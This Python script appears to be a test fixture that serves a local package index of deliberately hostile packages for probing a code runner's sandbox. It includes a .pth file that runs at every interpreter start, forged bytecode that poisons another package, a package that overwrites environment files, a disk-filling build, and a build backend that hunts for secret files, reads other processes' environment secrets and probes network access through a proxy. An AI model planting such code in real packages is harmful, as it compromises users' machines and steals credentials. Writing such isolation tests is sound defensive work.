"""A Python package index on this machine: `index.py DIRECTORY` makes its wheels there, serves them, and prints the address.

greeting 1.0 and 2.0   a module that tells its version, and a command
victim 1.0             a module that others have designs on
whistle 1.0 and 2.0    as greeting, beside conda's packages
hostile 1.0            runs at every start of an interpreter, and brings bytecode for victim's files
breaker 1.0            writes over the environment's own files
unloadable 1.0         cannot be imported
bulky 1.0              takes a while to unpack
curious 1.0            sources alone: looks around while it is built, and tells what it got
homely 1.0             sources alone
greedy 1.0             sources alone: writes without end while it is built
"""

import base64
import functools
import hashlib
import http.server
import importlib.util
import marshal
import pathlib
import io
import struct
import sys
import tarfile
import threading
import zipfile

# Leaves a trace wherever it can write that is not a program's own.
AT_EVERY_START = (
    "import os; [open(place + '/pwned', 'w').close() for place in "
    "('/build', '/build/.workshop', '/build/.workshop/cache', '/build/.workshop/cache/uv', '/pythons', '/env') if os.access(place, os.W_OK)]\n"
)
# To be taken without a look at the source.
UNCHECKED = 1


def bytecode(source: str, name: str) -> bytes:
    code = marshal.dumps(compile(source, name, "exec"))
    return importlib.util.MAGIC_NUMBER + struct.pack("<I", UNCHECKED) + bytes(8) + code


def digest(content: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode()


def wheel(root: pathlib.Path, name: str, version: str, files: dict[str, str | bytes]) -> None:
    info = f"{name}-{version}.dist-info"
    files |= {
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    contents = {path: text.encode() if isinstance(text, str) else text for path, text in files.items()}
    lines = [f"{path},sha256={digest(content)},{len(content)}" for path, content in contents.items()]
    contents[f"{info}/RECORD"] = "\n".join([*lines, f"{info}/RECORD,,\n"]).encode()
    directory = root / "simple" / name
    directory.mkdir(parents=True, exist_ok=True)
    file = directory / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(file, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for path, content in contents.items():
            archive.writestr(path, content)
    tell(directory)


def tell(directory: pathlib.Path) -> None:
    links = [f'<a href="{path.name}#sha256={hashlib.sha256(path.read_bytes()).hexdigest()}">{path.name}</a>' for path in directory.iterdir() if path.suffix in (".whl", ".gz")]
    (directory / "index.html").write_text("<!DOCTYPE html>\n" + "\n".join(links))


def sources(root: pathlib.Path, name: str, version: str, program: str) -> None:
    """Of a package that builds itself: this program makes the text of its module."""
    backend = BACKEND.format(name=name, version=version) + program
    files = {
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        "backend.py": backend,
    }
    directory = root / "simple" / name
    directory.mkdir(parents=True, exist_ok=True)
    with tarfile.open(directory / f"{name}-{version}.tar.gz", "w:gz") as archive:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{name}-{version}/{path}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    tell(directory)


BACKEND = """
import pathlib, zipfile
def build_wheel(directory, config_settings=None, metadata_directory=None):
    info = "{name}-{version}.dist-info"
    files = {{
        "{name}.py": module(),
        info + "/METADATA": "Metadata-Version: 2.1\\nName: {name}\\nVersion: {version}\\n",
        info + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }}
    files[info + "/RECORD"] = "".join(path + ",,\\n" for path in [*files, info + "/RECORD"])
    wheel = "{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(pathlib.Path(directory) / wheel, "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return wheel
"""

GREEDY = """
def module():
    with open("zeros", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
"""

# What it got goes out with it. `index` is what it may reach: without it nothing was tried.
CURIOUS = """
import os, socket, urllib.parse
INDEX, OTHER = {ports}

def reach(port, through):
    try:
        if through is None:
            connection = socket.create_connection(("127.0.0.1", port), timeout=5)
        else:
            connection = socket.create_connection((through.hostname, through.port), timeout=5)
            connection.sendall(b"\\5\\1\\0")
            connection.recv(2)
            connection.sendall(b"\\5\\1\\0\\1\\x7f\\0\\0\\1" + port.to_bytes(2, "big"))
            if connection.recv(10)[1] != 0:
                return False
        connection.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        return bool(connection.recv(1))
    except OSError:
        return False

def writable():
    own = [os.path.realpath(path) for path in (os.getcwd(), os.environ["TMPDIR"], os.environ["UV_CACHE_DIR"], "/env", "/work")]
    build = os.path.dirname(own[1])
    for root, directories, _ in os.walk("/"):
        directories[:] = [name for name in directories if not os.path.join(root, name).startswith(("/proc", "/sys", "/dev", "/tmp", "/work", build))]
        if os.access(root, os.W_OK):
            yield root

def files():
    for root, directories, names in os.walk("/"):
        directories[:] = [name for name in directories if os.path.join(root, name) not in ("/proc", "/sys")]
        yield from (os.path.join(root, name) for name in names if name in ("coderunner.db", "secret_key"))

def environments():
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            text = open("/proc/" + process + "/environ", "rb").read().decode(errors="replace")
        except OSError:
            continue
        yield from (entry for entry in text.split(chr(0)) if entry.startswith(("SECRET", "CODERUNNER", "DATABASE")))

def module():
    proxy = urllib.parse.urlsplit(os.environ["ALL_PROXY"])
    others = [name for name in os.listdir("/build") if name.isdigit()] if os.path.isdir("/build") else []
    got = dict(writable=list(writable()), files=list(files()), environ=list(environments()), others=others)
    got |= dict(direct=reach(OTHER, None), proxied=reach(OTHER, proxy), index=reach(INDEX, proxy))
    return "import json\\nprint(json.dumps(" + repr(got) + "))\\n"
"""


def fill(root: pathlib.Path) -> None:
    for version in ("1.0", "2.0"):
        command = {f"greeting-{version}.dist-info/entry_points.txt": "[console_scripts]\ngreet = greeting:greet\n"}
        module = f"version = '{version}'\ndef greet():\n    print('hello from', version)\n"
        wheel(root, "greeting", version, {"greeting.py": module} | command)
        command = {f"whistle-{version}.dist-info/entry_points.txt": "[console_scripts]\nwhistle = whistle:whistle\n"}
        module = f"def whistle():\n    import os, sys\n    print('{version}', sys.prefix, os.path.exists(__cached__))\n"
        wheel(root, "whistle", version, {"whistle/__init__.py": module} | command)
    wheel(root, "victim", "1.0", {"victim/__init__.py": "who = 'genuine'\n"})
    poison = f"victim/__pycache__/__init__.{sys.implementation.cache_tag}.pyc"
    hostile = {"hostile.py": "", "hostile.pth": AT_EVERY_START, poison: bytecode("who = 'poisoned'\n", "victim/__init__.py")}
    wheel(root, "hostile", "1.0", hostile)
    data = "breaker-1.0.data/data"
    breaker = {"breaker.py": "", f"{data}/pyvenv.cfg": "home = /tmp\n", "coderunner.pth": "import os; os._exit(7)\n"}
    wheel(root, "breaker", "1.0", breaker)
    wheel(root, "bulky", "1.0", {"bulky/__init__.py": "", "bulky/zeros": bytes(400 << 20)})
    sources(root, "homely", "1.0", "def module():\n    return ''\n")
    sources(root, "greedy", "1.0", GREEDY)
    wheel(root, "unloadable", "1.0", {"unloadable.py": "raise RuntimeError('not today')\n"})


def main(directory: str) -> None:
    root = pathlib.Path(directory)
    fill(root)
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=directory)
    handler.log_message = lambda *_: None
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    # Another server of this machine, which builds have no business with: a package that reached it would get an answer.
    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=other.serve_forever, daemon=True).start()
    sources(root, "curious", "1.0", CURIOUS.replace("{ports}", str((server.server_port, other.server_port))))
    print(f"http://127.0.0.1:{server.server_port}/simple", flush=True)
    sys.stderr = open("/dev/null", "w")
    server.serve_forever()


if __name__ == "__main__":
    main(sys.argv[1])
